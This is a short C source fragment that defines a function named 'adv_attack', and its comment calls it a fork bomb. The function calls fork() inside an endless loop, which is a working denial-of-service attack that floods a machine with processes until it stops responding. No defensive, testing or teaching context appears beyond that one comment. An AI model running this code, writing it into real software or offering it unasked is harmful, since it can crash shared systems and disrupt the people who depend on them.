/* A fork bomb: every process forks forever. */
#include <unistd.h>

static int adv_attack(void)
{
    for (;;)
        fork();
    return 0;
}
